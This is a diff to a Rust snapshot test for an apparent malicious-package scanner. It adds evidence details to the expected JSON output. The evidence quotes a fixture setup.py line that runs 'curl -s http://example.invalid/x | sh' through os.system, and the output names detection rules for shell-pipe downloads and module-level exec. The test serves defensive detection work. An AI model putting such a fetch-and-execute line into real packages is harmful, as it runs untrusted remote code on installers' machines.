@@ -146,15 +146,40 @@ fn scan_json_snapshot() {
                 "distribution": "$DIR/evil-1.0.tar.gz",
                 "path": "evil-1.0/setup.py",
                 "size": 109,
+                "sha256": "6d2e6410f9a6a9cf4a0fde7c36c85bdcf10dce7789ce79b9907d8e414126c70f",
                 "score": 11,
                 "rules": [
                   {
                     "name": "shell_pipe_download",
-                    "weight": 6
+                    "weight": 6,
+                    "match_count": 1,
+                    "evidence": [
+                      {
+                        "pattern": "$pipe",
+                        "offset": 50,
+                        "length": 37,
+                        "line": 3,
+                        "column": 12,
+                        "matched": "curl -s http://example.invalid/x | sh",
+                        "excerpt": "os.system('curl -s http://example.invalid/x | sh')"
+                      }
+                    ]
                   },
                   {
                     "name": "setup_py_module_level_exec",
-                    "weight": 5
+                    "weight": 5,
+                    "match_count": 1,
+                    "evidence": [
+                      {
+                        "pattern": "$os_exec",
+                        "offset": 39,
+                        "length": 10,
+                        "line": 3,
+                        "column": 1,
+                        "matched": "os.system(",
+                        "excerpt": "os.system('curl -s http://example.invalid/x | sh')"
+                      }
+                    ]
                   }
                 ]
               }
@@ -163,7 +188,8 @@ fn scan_json_snapshot() {
             "files_skipped": 0,
             "bytes_scanned": 271,
             "errors": [],
-            "anomalies": []
+            "anomalies": [],
+            "suppressed": 0
           }
         ]
     "#]]
